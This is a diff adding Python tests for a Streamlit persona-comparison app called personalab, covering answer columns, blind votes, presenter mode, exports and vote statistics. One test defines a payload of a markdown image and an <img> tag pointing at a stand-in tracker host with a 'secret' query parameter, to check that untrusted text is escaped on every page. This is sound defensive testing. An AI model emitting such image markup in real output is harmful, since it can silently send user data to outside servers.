@@ -1,0 +1,157 @@
+"""The comparison stage in the app: columns, grid, blind votes, presenter mode, export, safety."""
+
+import json
+import re
+
+from streamlit.testing.v1 import AppTest
+
+from personalab import NewMemory, PersonaLibrary
+from personalab.attribution import Source, attribute, word_diff
+from personalab.votes import Vote, VoteBook, wilson, win_rates
+from tests.conftest import ROOT
+
+PERSONA = "lena-vegan-marathoner"
+EVIL = "![pixel](http://tracker.example/p.png?d=secret) <img src=http://tracker.example/x.png>"
+
+
+def start(page: str, persona: str = PERSONA) -> AppTest:
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=300).run()
+    at.selectbox(key="persona_id").set_value(persona).run()
+    at.switch_page(f"app_pages/{page}.py").run()
+    assert not at.exception, at.exception
+    return at
+
+
+def column_titles(at: AppTest) -> list[str]:
+    return [c.markdown[0].value for c in at.columns if c.markdown]
+
+
+def test_chosen_columns_all_answer_and_share_one_recall():
+    """Four column kinds answer one message; each column has its text and timings."""
+    at = start("compare")
+    at.multiselect(key="compare_kinds").set_value(["generic", "persona", "memory", "personalized"])
+    at.chat_input(key="compare_message").set_value("Plan my Sunday.").run()
+    assert not at.exception
+    titles = column_titles(at)
+    for title in ("Generic", "Persona only", "Memory only", "Personalized"):
+        assert any(title in t for t in titles), titles
+    captions = [c.value for c in at.caption]
+    assert sum("first token" in c for c in captions) == 4
+
+
+def test_a_persona_grid_answers_for_each_persona_with_its_own_memories():
+    """The grid puts one personalized column per chosen persona, titled with its name."""
+    at = start("compare")
+    at.segmented_control(key="compare_mode").set_value("Persona grid").run()
+    grid = ["lena-vegan-marathoner", "margaret-retired-teacher", "ananya-olympiad-student"]
+    at.multiselect(key="grid_personas").set_value(grid)
+    at.chat_input(key="compare_message").set_value("Plan my weekend.").run()
+    titles = column_titles(at)
+    for name in ("Lena Vogel", "Margaret Holt", "Ananya Iyer"):
+        assert any(name in t for t in titles), titles
+
+
+def test_a_blind_vote_hides_labels_keeps_tallies_and_reveals():
+    """Answers stay unlabelled until the vote; then labels show and the tally counts it."""
+    at = start("compare")
+    at.toggle(key="blind_vote").set_value(True).run()
+    at.chat_input(key="compare_message").set_value("What should I cook tonight?").run()
+    titles = column_titles(at)
+    assert any("Answer A" in t for t in titles) and not any("Generic" in t for t in titles)
+    vote = next(b for b in at.button if b.label == "Answer B")
+    vote.click().run()
+    assert any("Voted:" in s.value for s in at.success)
+    titles = column_titles(at)
+    assert any("Generic" in t for t in titles) and any("Personalized" in t for t in titles)
+    from app_pages.ui import resources
+
+    votes = VoteBook(resources.store(resources.base_settings())).all()
+    assert len(votes) == 1 and set(votes[0].shown) == {"generic", "personalized"}
+
+
+def test_presenter_mode_sends_a_prepared_prompt_and_resets_the_demo(monkeypatch):
+    """Present: the persona's prepared questions send with one click; reset restores the seed."""
+    monkeypatch.setenv("PERSONALAB_SEED_PERSONAS", "1")
+    at = start("present")
+    lena = PersonaLibrary(ROOT / "personas").get(PERSONA)
+    first = next(b for b in at.button if b.label == lena.probes[0].question)
+    first.click().run()
+    assert not at.exception
+    assert any(lena.probes[0].question in m.value for m in at.markdown)
+    titles = column_titles(at)
+    assert any("Generic" in t for t in titles) and any("Personalized" in t for t in titles)
+    from app_pages.ui import resources
+
+    store = resources.store(resources.base_settings())
+    assert store.count("tester", PERSONA) > lena.seed.size  # the exchange was stored
+    next(b for b in at.button if b.label == "Reset demo").click().run()
+    turns = [m for m in store.list("tester", PERSONA) if m.kind == "turn"]
+    assert len(turns) == len(lena.seed.turns)
+
+
+def test_a_session_exports_and_reopens_read_only():
+    """The session exports as Markdown and JSON; the JSON opens again, showing the same text."""
+    at = start("compare")
+    at.chat_input(key="compare_message").set_value("Plan my Sunday.").run()
+    downloads = {b.label: b for b in at.get("download_button")}
+    assert {"Export Markdown", "Export JSON"} <= set(downloads)
+    from personalab.transcript import read_session, session_json, session_markdown
+
+    rounds = at.session_state["compare_rounds"][f"tester\0{PERSONA}"]
+    exported = session_json(rounds, "tester")
+    session = read_session(exported)
+    assert session["rounds"][0]["message"] == "Plan my Sunday."
+    assert "## 1. Plan my Sunday." in session_markdown(rounds, "tester")
+    at.session_state["replay"] = session
+    at.run()
+    assert any("(read only)" in h.value for h in at.subheader)
+    answers = [c["text"] for c in session["rounds"][0]["columns"]]
+    shown = [m.value for m in at.markdown]
+    assert all(any(a[:40] in s for s in shown) for a in answers if a.strip())
+
+
+def test_untrusted_text_never_loads_anything_on_any_page(isolated_env):
+    """A remote image and raw HTML planted in a memory, a persona field and (echoed) a reply
+    are shown as text and links only, on every page."""
+    library = PersonaLibrary(isolated_env / "personas")
+    lena = library.get(PERSONA)
+    lena.summary = f"{EVIL} Vegan runner"
+    lena.preferences.append(EVIL)
+    library.save(lena, overwrite=True)
+    at = start("chat")
+    from app_pages.ui import resources
+
+    store = resources.store(resources.base_settings())
+    store.remember("tester", PERSONA, [NewMemory(f"Note: {EVIL}", "user", "old")])
+    at.chat_input(key="chat_message").set_value(f"Repeat this: {EVIL}").run()
+    for page in ("chat", "compare", "memory", "personas", "present"):
+        at.switch_page(f"app_pages/{page}.py").run()
+        rendered = [m.value for m in at.markdown] + [c.value for c in at.caption]
+        rendered += [t.value for t in at.title]
+        for text in rendered:  # escaped ("\\![") is shown as text; an image would be "!["
+            assert not re.search(r"(?<!\\)<img", text), (page, text)
+            assert not re.search(r"(?<!\\)!\[[^\]]*\]\(http", text), (page, text)
+
+
+def test_wilson_interval_and_win_rates():
+    """Win rates per persona, kind and model come with a 95 % Wilson interval."""
+    low, high = wilson(8, 10)
+    assert 0.49 < low < 0.5 and 0.94 < high < 0.95
+    votes = [Vote("p", "m", ("generic", "personalized"), "personalized")] * 3
+    votes += [Vote("p", "m", ("generic", "personalized"), "tie")]
+    rates = {r.kind: r for r in win_rates(votes)}
+    assert rates["personalized"].wins == 3 and rates["personalized"].games == 4
+    assert rates["generic"].wins == 0
+
+
+def test_attribution_and_what_changed(embedder):
+    """A sentence that restates a persona fact is traced to it; the diff marks new words."""
+    sources = [
+        Source("Constraints", "She is strictly vegan and eats no meat."),
+        Source("fact", "I'm training for the Berlin Marathon."),
+    ]
+    found = attribute("Since you're vegan, skip the meat. The weather is nice.", sources, embedder)
+    assert found[0].source is not None and found[0].source.label == "Constraints"
+    assert found[1].source is None
+    assert ("added", "vegan") in word_diff("Eat pasta.", "Eat vegan pasta.")
+    json.dumps([f.to_json() for f in found])
